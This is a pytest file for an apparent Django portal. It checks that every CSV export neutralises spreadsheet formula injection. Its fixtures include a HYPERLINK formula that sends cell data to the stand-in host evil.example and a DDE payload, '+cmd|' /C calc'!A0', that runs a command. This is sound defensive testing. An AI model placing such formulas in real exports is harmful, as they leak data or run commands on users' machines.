"""Every CSV the portal serves is written by one writer that neutralises spreadsheet formulas."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.test import Client

from portal.csv_safe import cell
from tests.factories import SystemFactory
from tests.leaderboard.support import publish

ROOT = Path(__file__).resolve().parents[2]
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("  =1+1", "'  =1+1"),
        ("\t=1", "'\t=1"),
        ("Acme_AX-8000", "Acme_AX-8000"),
        (-3.5, -3.5),
        (0, 0),
    ],
)
def test_a_cell_that_would_run_as_a_formula_is_written_as_text(value, written):
    assert cell(value) == written


def test_no_csv_is_written_outside_the_one_writer():
    writers = []
    for app in ("accounts", "audit", "catalog", "leaderboard", "review", "submissions", "portal", "access"):
        for path in (ROOT / app).rglob("*.py"):
            if path.name != "csv_safe.py" and re.search(r"csv\.(writer|DictWriter)\(", path.read_text()):
                writers.append(str(path.relative_to(ROOT)))
    assert writers == []


@pytest.mark.django_db
def test_a_formula_in_a_published_system_name_and_stack_reaches_no_export_raw(role_users, storage_dir):
    system = SystemFactory(name=HYPERLINK, organisation=role_users["organisations"]["acme"])
    publication = publish(system=system, stack="+cmd|' /C calc'!A0")
    for url in (
        f"/results/{publication.public_id}/points.csv",
        "/api/v1/public/results/?format=csv",
        f"/api/v1/public/results/{publication.public_id}/?format=csv",
    ):
        response = Client().get(url)
        assert response.status_code == 200, url
        rows = list(csv.reader(io.StringIO(response.content.decode())))
        cells = [value for row in rows for value in row]
        assert not [value for value in cells if value.lstrip(" ")[:1] in ("=", "+", "@")], url
        assert any(value.startswith("'=HYPERLINK") for value in cells), url
